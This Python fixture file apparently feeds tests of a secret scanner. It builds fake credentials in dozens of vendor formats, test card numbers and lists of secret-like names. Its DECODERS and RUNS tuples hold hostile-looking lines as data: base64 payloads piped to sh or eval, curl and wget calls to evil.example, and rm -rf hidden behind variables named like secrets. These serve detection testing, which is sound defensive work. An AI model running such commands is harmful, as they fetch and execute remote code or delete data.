"""One secret of each kind, as its issuer writes it: an independent list, not the table's.

Composed here, so that no file of the project holds anything of the form of a secret. ``hidden``
is the part that must not be seen.
"""

from __future__ import annotations

import base64
from typing import NamedTuple

_A = "aB3dE5gH7jK9mN1pQ3rS5tU7vW9xY1zA3bC5dE7f"  # 40 characters, mixed
_HEX = "0123456789abcdef" * 5
_B64 = (_A + "+/") * 3
_LOGIN = base64.b64encode(b"aladdin:open-sesame").decode()


class Example(NamedTuple):
    kind: str
    text: str
    hidden: str


def _whole(kind: str, secret: str) -> Example:
    return Example(kind, f"use {secret} now", secret)


def _part(kind: str, text: str, hidden: str) -> Example:
    return Example(kind, text.format(hidden), hidden)


EXAMPLES = (
    _part("password in an address", "psql postgres://{}@db/x", "bob:hunter2"),
    _part("key in an address", "https://{}@o1.ingest.example/2", _HEX[:32]),
    _part("bearer token", "-H 'Authorization: Bearer {}'", "abcdefghij" * 3),
    _part("basic authentication", "-H 'Authorization: Basic {}'", _LOGIN),
    _part("authorization", "-H 'Authorization: Token {}'", "9944b09199c62bcf"),
    _part("login of curl", "curl -u bob:{} https://x.example", "hunter2"),
    _whole("JSON Web Token", "eyJ" + "d" * 12 + ".eyJ" + "e" * 12 + "." + "f" * 20),
    _whole("token with its kind in front", "xoxb" + "-1234567890-abcdefghij"),
    _whole("token of an app's own connection", "xapp" + "-1-A0123-456-abcdef0123"),
    _whole("token of a workflow", "xwfp" + "-1-A0123-456-abcdef0123"),
    _part(
        "webhook of a workspace", "https://hooks.slack.com/services/T0AAAAAAA/B0AAAAAAA/{}", _A[:24]
    ),
    _whole("token behind the number of a bot", "123456789:" + "A" * 35),
    _whole("Discord bot token", "M" + _A[:24] + "." + _A[:6] + "." + _A[:30]),
    _part("Discord webhook", "https://discord.com/api/webhooks/123456789012345678/{}", _A * 2),
    _whole("GitHub token", "ghp_" + _A[:36]),
    _whole("GitHub fine-grained token", "github_pat_" + _A),
    _whole("GitLab token", "glpat-" + _A[:20]),
    _whole("GitLab runner token", "GR1348941" + _A[:20]),
    _whole("key of OpenAI and others", "sk-" + _A),
    _whole("Stripe secret key", "sk_live_" + _A[:24]),
    _whole("Stripe restricted key", "rk_test_" + _A[:24]),
    _whole("Stripe webhook secret", "whsec_" + _A[:32]),
    _whole("AWS access key", "AKIA" + "C" * 16),
    _whole("AWS temporary key", "ASIA" + "C" * 16),
    _whole("AWS bearer token", "ABIA" + "C" * 16),
    _whole("AWS context key", "ACCA" + "C" * 16),
    _whole("AWS secret key", "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYEXAMPLEKEY"),
    _whole("Google API key", "AIza" + _A[:35]),
    _whole("Google access token", "ya29." + _A),
    _whole("Google client secret", "GOCSPX-" + _A[:28]),
    _part("Azure account key", "AccountName=x;AccountKey={};E=y", _B64[:86] + "=="),
    _part("Azure access key", "Endpoint=sb://x;SharedAccessKey={}", _B64[:43] + "="),
    _part("Azure signature", "https://x.example/y?sv=1&sig={}", _A + "%2F%3D"),
    _whole("Azure client secret", "abc8Q~" + _A[:34]),
    _whole("npm token", "npm_" + _A[:36]),
    _whole("PyPI token", "pypi-" + "AgEIcHlwaS5vcmc" + _A * 2),
    _whole("SendGrid key", "SG." + _A[:22] + "." + _A + "abc"),
    _whole("Twilio account", "AC" + _HEX[:32]),
    _whole("Twilio key", "SK" + _HEX[:32]),
    _whole("Hugging Face token", "hf_" + _A[:34]),
    _whole("Hugging Face organisation token", "api_org_" + _A[:34]),
    _whole("Mailchimp key", _HEX[:32] + "-us12"),
    _whole("Mailgun key", "key-" + _HEX[:32]),
    _whole("Square token", "sq0csp-" + _A + "abc"),
    _whole("Shopify token", "shpat_" + _HEX[:32]),
    _whole("DigitalOcean token", "dop_v1_" + _HEX[:64]),
    _whole("Databricks token", "dapi" + _HEX[:32]),
    _whole("HashiCorp Vault token", "hvs." + _A),
    _whole("Terraform Cloud token", _A[:14] + ".atlasv1." + _A * 2),
    _whole("Atlassian token", "ATATT3" + _A),
    _whole("Artifactory token", "AKC" + _A * 2),
    _whole("Docker token", "dckr_pat_" + _A[:27]),
    _whole("RubyGems key", "rubygems_" + _HEX[:48]),
    _whole("Grafana token", "glsa_" + _A[:32] + "_0a1b2c3d"),
    _whole("New Relic key", "NRAK-" + "ABCDEFGHI" * 3),
    _whole("Postman key", "PMAK-" + _HEX[:24] + "-" + _HEX[:34]),
    _whole("Linear key", "lin_api_" + _A),
    _whole("Notion token", "ntn_" + _A + "abc"),
    _whole("Supabase token", "sbp_" + _HEX[:40]),
    _whole("Groq key", "gsk_" + _A + _A[:12]),
    _whole("Sentry token", "sntryu_" + _HEX[:64]),
    _whole("age secret key", "AGE-SECRET-KEY-1" + "QPZRY9X8GF" * 6),
    _whole("token of our own", "sayso_" + _A + "abc"),
    _whole("number of a card", "4111 1111 1111 " + "1111"),
)

CARDS = (
    "4111111111111111",
    "4222222222222",
    "5555555555554444",
    "2223003122003222",
    "378282246310005",
    "6011111111111117",
    "3566002020360505",
    "30569309025904",
    "6250941006528599",
    "4111-1111-1111-1111",
)

NAMES = (
    *("pass", "password", "passwd", "passphrase", "passcode", "pwd", "secret", "token", "otp"),
    *("PGPASSWORD", "SSHPASS"),
    *("passwords", "passphrases", "passcodes"),
    *("secrets", "tokens", "secretkey", "client-secret", "accessToken", "authtoken"),
    *("refresh_token", "bearer", "jwt", "jwts", "sessionid", "session_id", "session-id"),
    *("JSESSIONID", "PHPSESSID", "dsn", "dsns", "connectionstring"),
    *("sessionids", "connectionstrings"),
    *("connection_string", "connection-string", "api_keys", "access-keys"),
    *("privateKeys", "cookies"),
    *("cvv", "cvc", "credential", "credentials", "authorization", "auth", "cookie"),
    *("contrasena", "contraseña", "api_key", "apikey", "auth_key", "access-key", "accountKey"),
    *("client_key", "database_key", "db_key", "encryption_key", "master_key", "private_key"),
    *("priv_key", "service_key", "session_key", "shared_key", "signing_key", "storage_key"),
)

SHAPED = (
    *("PASSWORD1", "token2", "DB_PWD_01", "apiKey3", "jwt_token", "sessionId", "connectionString"),
    *("SENTRY_DSN", "db-passwords", "user-tokens", "x.session.cookies", "auth"),
)
"""The same names as others write them, and with more around them."""

SHOWN = (
    *("secretary", "tokenizer", "primary_key", "monkey", "author", "bearings", "passes"),
    *("auth0", "AUTH0_CLIENT_ID", "oauth2", "max_tokens", "maxTokens", "stop_tokens"),
    *("token_count", "tokens_used", "bearerFormat", "jwt_issuer", "adsn", "sessions", "jwtlib"),
)
"""Names in which a word of the table only seems to be."""

ABOUT = (
    *("name", "type", "url", "uri", "path", "file", "dir", "method", "mode", "policy", "length"),
    *("count", "limit", "ttl", "timeout", "scheme", "provider", "endpoint", "algorithm"),
    *("format", "version", "enabled", "required", "command", "cmd", "helper", "process"),
    *("program", "script", "hook", "plugin", "agent", "host", "server", "domain", "proxy"),
    *("port", "username", "role", "scope", "scopes", "permissions", "backend", "store"),
    *("service", "database", "used", "issuer", "audience", "expiry"),
)

NOTHING = ("true", "false", "null", "none", "nil", "undefined", "yes", "no", "on", "off")

DECODERS = (
    *("echo {} | base64 -d | sh", "base64 --decode <<< {} | sh", "base64 -w 0 -di <<< {}"),
    *("basenc --base64 -d <<< {}", "openssl enc -base64 -d <<< {} | sh", "openssl base64 -A -d {}"),
    *("exec(base64.b64decode('{}'))", "eval(atob('{}'))", "Buffer.from('{}', 'base64')"),
    *("Base64.decode64('{}')", "base64_decode('{}')", "decode_base64('{}')", "pwsh -enc {}"),
    *("jq -nr '\"{}\" | @base64d'", "[Convert]::FromBase64String('{}')", "a2b_base64('{}')"),
    "base64.StdEncoding.DecodeString('{}')",
)

RUNS = (
    *("pass=rm; $pass -rf x", 'token=rm\n"$token" -rf x', "secret=rm; sudo ${secret} -rf x"),
    *("export secret=evil.example/x.sh; curl $secret|sh", "auth=x.sh && sh ./$auth $auth"),
    *("token=evil.example; wget https://$token/x", "X=1 Y=2\npassword=rm; X=1 $password -rf x"),
    *("secret='a/b.py'; python3 \"$secret\"", "if true; then cookie=rm; $cookie -rf x; fi"),
)

KEYS = tuple(begin + "A" * 44 for begin in ("MII", "MHcCAQEE", "MC4CAQAw", "b3BlbnNzaC1rZXk"))
